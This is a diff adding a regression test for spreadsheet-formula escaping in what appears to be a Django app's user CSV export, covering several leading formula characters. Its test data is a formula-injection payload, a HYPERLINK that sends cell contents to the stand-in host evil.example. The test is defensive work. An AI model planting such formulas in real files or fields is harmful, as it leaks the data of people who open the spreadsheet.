@@ -176,6 +176,28 @@ def test_a_name_a_spreadsheet_would_run_as_a_formula_is_escaped_in_the_csv(admin
     assert "HYPERLINK" in rows["alice@example.com"]["display_name"]
 
 
+FORMULA = 'HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+
+
+@pytest.mark.parametrize("start", ["=", "==", "+", "-", "@", "\t=", "\r=", "'="])
+def test_every_cell_a_spreadsheet_would_run_is_quoted_and_reads_back_the_same(admin_client, user, start):
+    # Issue 18, hole 10: only one leading "=" was removed; "==", "+", "-", "@" reached the sheet.
+    name = start + FORMULA
+    User.objects.filter(pk=user.pk).update(display_name=name)
+
+    text = export(admin_client, USERS)
+    cell = {row["email"]: row for row in csv_rows(text)}["alice@example.com"]["display_name"]
+    as_json = json.loads(export(admin_client, USERS, JSON_FORMAT))
+    again = preview(admin_client, USERS, text)
+
+    assert cell == "'" + name
+    assert next(row for row in as_json if row["email"] == "alice@example.com")["display_name"] == name
+    # The quote is the file's, not the data's: the export imported again changes nothing (but a
+    # carriage return, which the library's upload storage reads back as a newline).
+    if "\r" not in start:
+        assert set(row_types(again)) == {RowResult.IMPORT_TYPE_SKIP}
+
+
 def test_the_user_export_as_json(admin_client, user):
     rows = json.loads(export(admin_client, USERS, JSON_FORMAT))
     assert {"email": "alice@example.com", "display_name": "Alice", "is_active": "1", "is_staff": "0"}.items() <= next(
